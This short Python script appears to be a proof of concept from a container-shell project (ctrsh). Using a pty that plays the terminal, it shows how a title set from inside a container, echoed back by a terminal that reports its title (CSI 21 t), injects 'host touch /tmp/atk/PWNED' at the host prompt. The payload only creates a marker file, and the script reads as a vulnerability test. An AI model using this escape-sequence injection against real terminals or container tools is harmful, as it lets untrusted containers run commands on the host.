# A terminal that reports its title (CSI 21 t; xterm with allowWindowOps) answers
# after the container exited: the answer is typed at ctrsh's prompt, and the
# user's next Enter runs `host touch /tmp/atk/PWNED` on the host. The pty here
# plays the terminal, answering 0.3 s late (an ssh round trip).
# Usage: python3 attack/terminal-answer.py  (needs /tmp/atk/bin/ctrsh and /tmp/atk/root)
import os, pty, sys, time, select
pid, fd = pty.fork()
if pid == 0:
    os.execv('/tmp/atk/bin/ctrsh', ['ctrsh'])
out = b''
def pump(t):
    global out
    end = time.time() + t
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.1)
        if r:
            try: d = os.read(fd, 65536)
            except OSError: return
            out += d
            if b'\x1b[21t' in d:   # a terminal that reports its title (xterm allowWindowOps)
                time.sleep(0.3); os.write(fd, b"\x1b]lx;host touch /tmp/atk/PWNED\x1b\\")
def send(s): os.write(fd, s.encode())
pump(2)
send('ns new pid,uts,ipc,net,mnt; rootfs use /tmp/atk/root\r'); pump(1)
send("exec /bin/sh -c 'printf \"\\033]2;x;host touch /tmp/atk/PWNED\\007\\033[21t\"'\r"); pump(3)
send('\r'); pump(2)   # the user presses Enter at the prompt
send('quit\r'); pump(2)
sys.stdout.write(repr(out.decode(errors='replace')).replace('\\r\\n', '\n'))
print('\nPWNED exists:', os.path.exists('/tmp/atk/PWNED'))
